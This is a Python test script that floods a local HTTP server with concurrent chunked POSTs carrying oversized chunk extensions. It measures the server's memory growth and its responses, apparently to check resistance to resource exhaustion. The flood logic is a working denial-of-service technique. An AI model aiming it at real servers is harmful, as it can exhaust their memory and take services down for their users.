#!/usr/bin/env python3
"""Chunk-extension flood: N concurrent connections each send a chunked POST head, then stream 1-byte
chunks carrying ~1 KiB of extension until LIMIT bytes went out or the server answered. Samples the
server's VmRSS (/proc/PID/status) before, at the peak, and after the clients close.
usage: flood.py PORT PID CONNECTIONS LIMIT_BYTES"""
import select
import socket
import sys
import time

port, pid, count, limit = (int(a) for a in sys.argv[1:5])
head = b"POST /echo HTTP/1.1\r\nHost: flood\r\nTransfer-Encoding: chunked\r\n\r\n"
piece = (b"1;ext=" + b"a" * 1000 + b"\r\nx\r\n") * 16


def rss_kib():
    with open(f"/proc/{pid}/status") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmRSS"))


before = rss_kib()
conns = []
for _ in range(count):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(head)
    s.setblocking(False)
    conns.append({"sock": s, "sent": 0, "answer": b"", "done": False})
peak = before
started = time.time()
while any(not c["done"] for c in conns) and time.time() - started < 60:
    live = [c for c in conns if not c["done"]]
    _, writable, _ = select.select([], [c["sock"] for c in live], [], 0.2)
    for c in live:
        s = c["sock"]
        try:
            data = s.recv(4096)
            c["answer"] += data
            if data or c["answer"]:
                c["done"] = True
                continue
            c["done"] = True  # EOF without an answer
            continue
        except BlockingIOError:
            pass
        except OSError:
            c["done"] = True
            continue
        if s in writable and c["sent"] < limit:
            try:
                c["sent"] += s.send(piece)
            except BlockingIOError:
                pass
            except OSError:
                c["done"] = True
        elif c["sent"] >= limit:
            c["done"] = True
    peak = max(peak, rss_kib())
time.sleep(1)
peak = max(peak, rss_kib())
statuses = {}
for c in conns:
    line = c["answer"].split(b"\r\n", 1)[0].decode(errors="replace") or "(no answer yet)"
    statuses[line] = statuses.get(line, 0) + 1
sent = sum(c["sent"] for c in conns)
for c in conns:
    c["sock"].close()
time.sleep(2)
after = rss_kib()
print(f"connections {count}, sent {sent / 1048576:.1f} MiB in total ({sent // count // 1024} KiB each on average)")
print("answers: " + ", ".join(f"{n} x {s}" for s, n in sorted(statuses.items())))
print(f"server RSS: before {before / 1024:.1f} MiB, peak {peak / 1024:.1f} MiB, 2 s after the clients closed {after / 1024:.1f} MiB")
